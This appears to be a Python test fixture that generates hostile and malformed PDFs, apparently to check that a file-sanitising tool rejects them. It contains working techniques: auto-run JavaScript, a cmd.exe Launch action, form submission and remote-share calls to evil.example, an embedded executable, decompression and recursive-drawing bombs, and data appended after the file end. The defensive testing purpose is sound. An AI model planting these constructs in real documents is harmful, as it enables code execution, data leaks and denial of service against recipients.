"""PDF files made to act, burn, leak or deceive."""

import random
import zlib

from tests.files.honest import pdf_of, simple_pdf, stream
from tests.files.hostile.kinds import CANARY, Hostile, R, archive
from tests.files.hostile.photos import leaky_photo


def script(action: bytes) -> bytes:
    return b"/OpenAction<<%s>>" % action


def laughing_forms(depth: int, times: int) -> bytes:
    """A drawing that calls a drawing ten times, that calls a drawing ten times, and so on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>>>>>",
    ]
    for number in range(4, 4 + depth):
        last = number == 3 + depth
        objects.append(
            stream(
                b"0 0 9 9 re f" if last else b"/X Do " * times,
                b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X %d 0 R>>>>"
                % (number + 1),
            )
        )
    return pdf_of(objects)


def image_flood() -> bytes:
    """A page with one picture of 30,000 × 30,000 black and white points in a few hundred bytes."""
    points = zlib.compress(zlib.compress(b"\0" * (30_000 * 30_000 // 8), 9), 9)
    picture = stream(
        points,
        b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1"
        b"/ColorSpace/DeviceGray/Filter[/FlateDecode/FlateDecode]",
    )
    return simple_pdf(
        others=(picture,), page=b"/Resources<</XObject<</I 4 0 R>>>>", drawing=b"300 0 0 400 0 0 cm /I Do"
    )


def hostile_documents() -> dict[str, Hostile]:
    js = b"/S/JavaScript/JS(app.alert\\('%s'\\))" % CANARY
    attachment = stream(CANARY, b"/Type/EmbeddedFile")
    bomb = zlib.compress(b"0 0 9 9 re f " * 2_000_000, 9)
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(%s)/Rect[9 9 99 30]/AA<</K<<%s>>>>>>" % (CANARY, js)
    plain = simple_pdf()
    return {
        "script on opening": Hostile(simple_pdf(catalogue=script(js))),
        "script in the names": Hostile(
            simple_pdf(catalogue=b"/Names<</JavaScript<</Names[(a)<<%s>>]>>>>" % js)
        ),
        "script on the page": Hostile(simple_pdf(page=b"/AA<</O<<%s>>>>" % js)),
        "launches a program": Hostile(simple_pdf(catalogue=script(b"/S/Launch/F(cmd.exe)/P(%s)" % CANARY))),
        "opens a share": Hostile(
            simple_pdf(catalogue=script(b"/S/GoToR/F(\\\\\\\\evil.example\\\\%s)" % CANARY))
        ),
        "opens an address": Hostile(
            simple_pdf(catalogue=script(b"/S/URI/URI(http://evil.example/%s)" % CANARY))
        ),
        "sends a form": Hostile(
            simple_pdf(catalogue=script(b"/S/SubmitForm/F(http://evil.example/%s)" % CANARY))
        ),
        "imports data": Hostile(simple_pdf(catalogue=script(b"/S/ImportData/F(/etc/%s)" % CANARY))),
        "attachment": Hostile(
            simple_pdf(
                catalogue=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 4 0 R>>>>]>>>>",
                others=(attachment,),
            )
        ),
        "form with script": Hostile(
            simple_pdf(catalogue=b"/AcroForm<</Fields[4 0 R]>>", others=(field,), page=b"/Annots[4 0 R]")
        ),
        "xfa form": Hostile(
            simple_pdf(catalogue=b"/AcroForm<</Fields[]/XFA 4 0 R>>", others=(stream(b"<xdp>" + CANARY),)),
            (R.DAMAGED,),
            either=True,
        ),
        "rich media": Hostile(
            simple_pdf(
                page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</X(%s)>>>>]" % CANARY
            )
        ),
        "picture from outside": Hostile(
            simple_pdf(
                others=(stream(b"", b"/Subtype/Image/Width 9/Height 9/F(/etc/hosts)/FFilter/DCTDecode"),),
                page=b"/Resources<</XObject<</I 4 0 R>>>>",
                drawing=b"/I Do",
            ),
            (R.DAMAGED,),
            either=True,
        ),
        "title": Hostile(simple_pdf(others=(b"<</Title(%s)>>" % CANARY,), trailer=b"/Info 4 0 R")),
        "locked": Hostile(
            simple_pdf(
                others=(b"<</Filter/Standard/V 1/R 2/P -4/O(%s)/U(%s)>>" % (b"o" * 32, b"u" * 32),),
                trailer=b"/Encrypt 4 0 R/ID[(a)(a)]",
            ),
            (R.ENCRYPTED_PDF,),
        ),
        "thirty-one pages": Hostile(simple_pdf(31), (R.TOO_MANY_PAGES,)),
        "a billion pages": Hostile(
            plain.replace(b"/Count 1>>", b"/Count 999999999>>"), (R.TOO_MANY_PAGES, R.DAMAGED), either=True
        ),
        "pages that are their own parents": Hostile(
            pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]),
            (R.DAMAGED,),
        ),
        "no pages": Hostile(
            pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]), (R.DAMAGED,)
        ),
        "header alone": Hostile(b"%PDF-1.7\n", (R.DAMAGED,)),
        "cut in the middle": Hostile(plain[: len(plain) // 2], (R.DAMAGED,), either=True),
        "noise": Hostile(b"%PDF-1.7\n" + random.Random(3).randbytes(20000), (R.DAMAGED,)),
        "table in a circle": Hostile(
            plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), (R.DAMAGED,), either=True
        ),
        "a kilometre of paper": Hostile(simple_pdf(box=b"0 0 9999999 9999999"), (R.DAMAGED,), either=True),
        "a thread of paper": Hostile(simple_pdf(box=b"0 0 1 14400"), (R.DAMAGED,), either=True),
        "paper turned inside out": Hostile(simple_pdf(box=b"500 500 -500 -500"), (R.DAMAGED,), either=True),
        "paper that is no number": Hostile(simple_pdf(box=b"0 0 NaN Inf"), (R.DAMAGED,), either=True),
        "picture flood": Hostile(image_flood(), (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG), either=True),
        "drawing that swells": Hostile(
            pdf_of(
                [
                    b"<</Type/Catalog/Pages 2 0 R>>",
                    b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
                    stream(bomb, b"/Filter/FlateDecode"),
                    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 3 0 R>>",
                ]
            ),
            (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG),
            either=True,
        ),
        "a hundred million drawings": Hostile(
            laughing_forms(12, 10), (R.DAMAGED, R.MEMORY, R.TAKES_TOO_LONG), either=True
        ),
        "drawing that draws itself": Hostile(
            simple_pdf(
                others=(stream(b"/X Do", b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"),),
                page=b"/Resources<</XObject<</X 4 0 R>>>>",
                drawing=b"/X Do",
            )
        ),
        "brackets without end": Hostile(
            simple_pdf(others=(b"[" * 200_000,)), (R.DAMAGED, R.MEMORY), either=True
        ),
        "archive behind": Hostile(plain + archive()),
        "html behind": Hostile(plain + b"<script>" + CANARY + b"</script>"),
        "photo behind": Hostile(plain + leaky_photo()),
    }
